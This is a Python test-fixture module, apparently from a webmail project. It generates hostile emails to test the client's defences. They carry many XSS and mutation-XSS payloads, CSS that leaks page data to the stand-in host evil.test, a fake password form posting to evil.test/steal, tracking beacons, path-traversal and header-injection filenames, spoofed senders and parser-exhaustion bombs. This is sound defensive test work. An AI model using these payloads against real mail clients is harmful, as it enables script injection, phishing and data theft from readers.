"""Mails that attack their reader: our own, for the classes of attack that webmails have fallen to. Each has a name and a class.

What they try calls `pwn()`, opens a window, goes elsewhere, or asks a machine in `evil.test`. Classes that no mail carries are shown
elsewhere: addresses of images in `src/remote`, IMAP, Sieve and headers in the tests of the crates, sessions in sign_in_test.py,
objects of others in objects_test.py, slow and many clients in `tests/program`.
"""

import base64
import email.utils

# The server weighs how old a message is.
TODAY = email.utils.formatdate()
E = "https://evil.test"
JS = "alert(document.domain);window.pwned=1;top.pwned=1;parent.pwned=1"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script></svg>'
DATA = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode()

# HTML bodies: class, name, markup.
BODIES = [
    ("links made of text", f'https://evil.test/"onmouseover="{JS} and http://a.test/<img/src=x/onerror={JS}> <a href="{E}">bank.test</a>'),
    ("attributes of body", f'<body onload="{JS}" background="{E}/b" class="x onerror={JS}" style="background:url({E}/c)"><p title="\'><img src=x onerror={JS}>">x</p>'),
    ("second parse: noscript", f'<noscript><p title="</noscript><img src=x onerror={JS}>">'),
    ("second parse: math", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={JS}&gt;">'),
    ("second parse: svg", f'<svg></p><style><a id="</style><img src=x onerror={JS}>">'),
    ("second parse: form", f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={JS}>'),
    ("second parse: template", f'<template><s><template><s><img src=x onerror={JS}>@</s></template></s></template>'),
    ("second parse: comment", f'<!--><img src=x onerror={JS}>--><!-- --!><img src=x onerror={JS}> -->'),
    ("second parse: select, title, textarea", f'<select><style></select><img src=x onerror={JS}></style></select><textarea></title><img src=x onerror={JS}></textarea>'),
    ("second parse: xmp, plaintext", f'<xmp><p title="</xmp><img src=x onerror={JS}>"></xmp><iframe><img title="</iframe><img src=x onerror={JS}>"></iframe>'),
    ("animated attributes", f'<svg><a><animate attributeName=href values="javascript:{JS}"/><set attributeName=href to="javascript:{JS}"/><text x=9 y=9>click</text></a>'
     f'<image><animate attributeName=href by="{E}/a" values="{E}/b"/></image></svg>'),
    ("svg that refers", f'<svg><use href="{DATA}#x"/><image href="{E}/i"/><feImage href="{E}/f"/><rect fill="url({E}/fill#x)" filter="url({E}/filter" mask="u\\rl({E}/mask)"/></svg>'),
    ("svg that runs", SVG + f'<embed src="{DATA}"><object data="{DATA}"></object><iframe srcdoc="<script>{JS}</script>"></iframe>'),
    ("fetches of style", f'<style>@import "{E}/1";@font-face{{font-family:f;src:url({E}/2)}}:root{{--u:url({E}/3)}}p{{background:var(--u);cursor:url({E}/4),auto;'
     f'list-style:image-set("{E}/5" 1x);content:url({E}/6);border-image:u\\72l({E}/7);font-family:f;background:/*x*/url(/**/{E}/8)}}</style><p style="background:image-set(\'{E}/9\' 1x)">f</p>'),
    ("style sheets from elsewhere", f'<link rel=stylesheet href="{E}/s.css"><link rel=preload as=script href="{E}/p"><style>@import url({E}/i.css);</style>'),
    ("style between two parsers", f'<p style="color:red&quot;;background:url({E}/q)">x</p><p style="font-family:&quot;</style><img src=x onerror={JS}>&quot;">x</p>'
     f'<style></sty<b>le><img src=x onerror={JS}></style>'),
    ("style that reads", f'<style>a[href*="t"]{{background:url({E}/has-t)}}:has(input[value^=a]){{background:url({E}/r)}}input{{background:url({E}/u)}}</style><a href="https://x.test">x</a><input value=abc>'),
    ("style that covers", '<style>*{position:fixed!important}:root{display:none!important}body{transform:scale(99)}</style><div style="position:fixed;inset:0;z-index:99999;margin:-9999px;background:red">covered</div>'),
    ("names that collide", '<form id="rows-form"><input name="csrf"></form><a id="trustedTypes"></a><img name="body"><a id="list" name="createHTML"></a><div id="pane" class="mail">names</div>'),
    ("phoning home", f'<link rel=dns-prefetch href="//dns.evil.test"><link rel=preconnect href="{E}"><link rel=prefetch href="{E}/p"><link rel=icon href="{E}/i"><a href="#" ping="{E}/ping">x</a>'
     f'<img src="{E}/i.png" srcset="{E}/s 1x"><img src="//evil.test/n"><img src="\\\\evil.test\\b"><img src="h&#9;ttps://evil.test/t"><video poster="{E}/v"><source src="{E}/w"></video>'
     f'<audio src="{E}/a" autoplay></audio><picture><source srcset="{E}/x"><img src="{E}/y"></picture><input type=image src="{E}/z"><table background="{E}/t"><td background="{E}/d">x</td></table>'
     f'<meta http-equiv="x-dns-prefetch-control" content="on"><body background="{E}/b"><bgsound src="{E}/bg"><img lowsrc="{E}/l" dynsrc="{E}/d" longdesc="{E}/ld">'),
    ("links that run", f'<a href="javascript:{JS}">1</a><a href="&#1;java&#10;script:{JS}">2</a><a href="data:text/html,<script>{JS}</script>">3</a><a href="vbscript:x">4</a>'
     f'<a href="blob:https://mail.example.test/x">5</a><area href="javascript:{JS}"><a xlink:href="javascript:{JS}">6</a><form action="javascript:{JS}"><button formaction="javascript:{JS}">7</button></form>'),
    ("handlers", f'<img src=x onerror="{JS}"><p onmouseover="{JS}" onclick={JS} onfocus={JS} tabindex=1 autofocus onpointerenter="{JS}">hover</p><details open ontoggle="{JS}"><summary>s</summary></details>'
     f'<marquee onstart="{JS}">m</marquee><video onerror="{JS}"><source></video><body onbeforeprint="{JS}" onafterprint="{JS}"><x onanimationstart="{JS}" style="animation:a 1s">'),
    ("frames and where they lead", f'<meta http-equiv=refresh content="0;url={E}/r"><base href="{E}/" target=_top><iframe src="{E}/f"></iframe><frameset><frame src="{E}"></frameset>'
     f'<a href="/sign-out" target=_top>out</a><a href="{E}" target=_parent>up</a><form action="{E}/post" target=_top><input type=submit autofocus></form><portal src="{E}"></portal><object data="{E}/o"></object>'),
    ("markup to drag", f'<div draggable=true ondragstart="event.dataTransfer.setData(\'text/html\',\'<img src=x onerror={JS}>\')">drag me</div><div contenteditable>type</div>'),
    ("a form that asks for a password", f'<form action="{E}/steal" method=post>Your session has ended.<input name=p type=password autocomplete=current-password><button>Sign in</button></form><dialog open>Sign in</dialog>'),
    ("a quote for the editor", f'<blockquote></textarea><script>{JS}</script><img src=x onerror={JS}></blockquote><p>&lt;/textarea&gt;&lt;script&gt;{JS}&lt;/script&gt;</p>'),
    ("deep", "<div>" * 3000 + f"<img src=x onerror={JS}>" + "<blockquote>" * 1500),
    ("much style", "<style>" + "a{" * 2000 + "}" * 2000 + ":is(" * 500 + ")" * 500 + "</style><p>styled</p>"),
    ("nul and other signs", f'<scr\0ipt>{JS}</scr\0ipt><img src=x one\0rror={JS}><a href="java\0script:{JS}">x</a><img\x0csrc=x\x0conerror={JS}><\u017fcript>{JS}</\u017fcript>'),
    ("unfinished", f'<p>words<img src=x title="never ends <script>{JS}</script><a href="{E}'),
]
HEADER = f'"/><img src=x onerror={JS}>\'`{{{{7*7}}}}</title></textarea><script>{JS}</script>'


def encoded(text):
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def letter(subject, head, body, sender="Evil <evil@evil.test>"):
    """A mail as bytes."""
    fields = f"From: {sender}\r\nTo: reader@example.test\r\nSubject: {subject}\r\nDate: {TODAY}\r\nMIME-Version: 1.0\r\n{head}\r\n\r\n"
    return (fields + body + "\r\n").encode()


def parts(*each):
    """The body of a multipart mail with the boundary b."""
    return "".join(f"--b\r\n{one}\r\n" for one in each) + "--b--"


def part(kind, text, more=""):
    return f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n{more}\r\n{base64.encodebytes(text.encode()).decode()}"


MIXED = "Content-Type: multipart/mixed; boundary=b"
HTML = "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64"
CALENDAR = (f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:u\r\nDTSTART:19700101T000000Z\r\nRRULE:FREQ=SECONDLY\r\nSUMMARY:{HEADER}\r\nDESCRIPTION:<img src=x onerror={JS}>\r\n"
            f"X-ALT-DESC;FMTTYPE=text/html:<script>{JS}</script>\r\nURL:javascript:{JS}\r\nATTACH:javascript:{JS}\r\nCONFERENCE:javascript:{JS}\r\nORGANIZER;CN=\"{HEADER}\":mailto:a@evil.test\r\n"
            "END:VEVENT\r\nEND:VCALENDAR\r\n")
CARD = f"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:{HEADER}\r\nPHOTO:{DATA}\r\nURL:javascript:{JS}\r\nNOTE:<img src=x onerror={JS}>\r\nEND:VCARD\r\n"
NAMES = ["a.svg", "a.html", "a.xhtml", '"><img src=x onerror=alert(1)>.html', "../../etc/passwd", "a\u202efdp.exe", "x\r\nSet-Cookie: a=b"]


def mails():
    """Name and bytes of each."""
    for name, markup in BODIES:
        wrapped = base64.encodebytes(markup.encode()).decode()
        yield name, letter(f"hostile {name}", HTML, wrapped)
    yield "header fields", letter(f"hostile header fields {encoded(HEADER)}", f"Content-Type: text/plain\r\nList-Id: {encoded(HEADER)}\r\nList-Unsubscribe: <javascript:{JS}>, <{E}/u>\r\n"
                                  f"Reply-To: {encoded(HEADER)} <r@evil.test>\r\nCc: {encoded(HEADER)} <c@evil.test>\r\nMessage-ID: <\"><script>{JS}</script>@evil.test>\r\n"
                                  f"Disposition-Notification-To: evil@evil.test\r\nX-Spam-Result: <script>{JS}</script> (1.0)\r\nX-Image-Url: {E}/face", "words", f"{encoded(HEADER)} <evil@evil.test>")
    yield "plain text", letter("hostile plain text", "Content-Type: text/plain", f"https://evil.test/\"onmouseover=\"{JS} <script>{JS}</script> javascript:{JS} <{E}/'><img src=x onerror={JS}>")
    files = [part(kind, SVG, f"Content-Disposition: {how}; filename=\"{encoded(name)}\"\r\n")
             for name, kind, how in zip(NAMES, ["image/svg+xml", "text/html", "application/xhtml+xml", "text/html; charset=utf-7", "application/pdf", "image/png", "text/xml"],
                                        ["inline", "attachment", "inline", "attachment", "inline", "attachment", "inline"])]
    yield "files", letter("hostile files", MIXED, parts(part("text/plain", "see the files"), *files))
    inline = part("image/svg+xml", SVG, "Content-ID: <s@evil.test>\r\n")
    yield "pictures in the mail", letter("hostile pictures in the mail", "Content-Type: multipart/related; boundary=b",
                                        parts(part("text/html", f'<img src="cid:s@evil.test"><img src="{DATA}"><img src="cid:\'&quot;onerror={JS}"><iframe src="cid:s@evil.test"></iframe>'), inline))
    yield "forgotten forms of text", letter("hostile forgotten forms of text", MIXED, parts(
        part("text/enriched", f"<bold><param><script>{JS}</script></param><<img src=x onerror={JS}>></bold>"), part("text/richtext", f"<lt>script>{JS}<lt>/script>"),
        part("application/xhtml+xml", SVG), part("text/x-amp-html", f"<script>{JS}</script>"), part("text/markdown", f"[x](javascript:{JS}) <img src=x onerror={JS}>")))
    inner = letter(f"inner {encoded(HEADER)}", HTML, base64.encodebytes(f"<img src=x onerror={JS}><script>{JS}</script>".encode()).decode()).decode()
    yield "mail in a mail", letter("hostile mail in a mail", MIXED, parts(part("text/plain", "see below"), f"Content-Type: message/rfc822\r\n\r\n{inner}"))
    yield "invitation", letter("hostile invitation", MIXED, parts(part("text/calendar; method=REQUEST", CALENDAR), part("text/vcard", CARD)))
    yield "winmail", letter("hostile winmail", MIXED, parts(part("text/plain", "x"), part("application/ms-tnef; name=winmail.dat", "\x78\x9f\x3e\x22" + "\xff" * 200)))
    for who, name in (('"boss@bank.test" <evil@evil.test>', "a name that is an address"), ("Bank <service@b\u0430nk.test>", "letters that look alike"),
                      (encoded("Bank\u202e\u200b") + " <evil@evil.test>", "a name that turns round")):
        yield name, letter(f"hostile {name}", "Content-Type: text/plain", "pay me", who)
    yield "many parts", letter("hostile many parts", MIXED, parts(*(["Content-Type: text/html\r\n\r\n<b>x</b>"] * 3000)))
    yield "nested parts", letter("hostile nested parts", "Content-Type: multipart/mixed; boundary=x0", "".join(f"--x{n}\r\nContent-Type: multipart/mixed; boundary=x{n + 1}\r\n\r\n" for n in range(500)))
    flood = "".join(f" filename*{n}*=%3Cscript%3E;" for n in range(1500))
    yield "pieces of a name", letter("hostile pieces of a name", MIXED, parts(part("text/plain", "x"), part("text/html", "x", f"Content-Disposition: attachment;{flood}\r\n")))
    yield "a large header", letter("hostile a large header", "X-Large: " + "\r\n ".join(["<script>" * 8] * 3000) + "\r\nContent-Type: text/plain", "x")
